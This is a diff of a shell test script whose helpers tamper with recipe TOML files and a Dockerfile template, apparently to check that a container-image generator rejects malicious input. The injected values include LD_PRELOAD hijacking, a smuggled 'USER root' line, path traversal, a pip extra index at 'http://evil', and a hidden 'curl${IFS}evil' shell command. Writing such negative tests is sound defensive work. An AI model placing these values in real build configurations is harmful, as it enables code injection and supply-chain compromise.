@@ -36,7 +36,7 @@ catalog_apt_option() { replace "$data/recipes/install/cuda.toml" 'runtime = ["li
 catalog_env_blank() { replace "$data/recipes/install/cuda.toml" '"NVCC_PREPEND_FLAGS=-ccbin=cuda-g++"' '"NVCC_PREPEND_FLAGS=-ccbin=cuda-g++ LD_PRELOAD=/tmp/x.so"'; }
 catalog_os_image() { replace "$data/recipes/catalog/bases.toml" 'image = "debian:12"' 'image = "debian:12\nUSER root"'; }
 catalog_os_name() { replace "$data/recipes/catalog/bases.toml" 'name = "debian12"' 'name = "../debian12"'; }
-catalog_pip_option() { replace "$data/recipes/install/pytorch.toml" 'packages = ["torch=={pytorch}+cu{cuda_nodot}"]' 'packages = ["torch=={pytorch} --extra-index-url=http://evil"]'; }
+catalog_pip_option() { replace "$data/recipes/install/pytorch.toml" 'packages = ["torch=={pytorch}"]' 'packages = ["torch=={pytorch} --extra-index-url=http://evil"]'; }
 catalog_index_shell() { replace "$data/recipes/install/pytorch.toml" '/whl/cu{cuda_nodot}"' '/whl/cu{cuda_nodot};curl${IFS}evil"'; }
 # The checkout's Dockerfile template, including a partial that includes itself.
 include_loop() { echo '{{> loop}}' >>"$data/templates/Dockerfile.mustache"; }
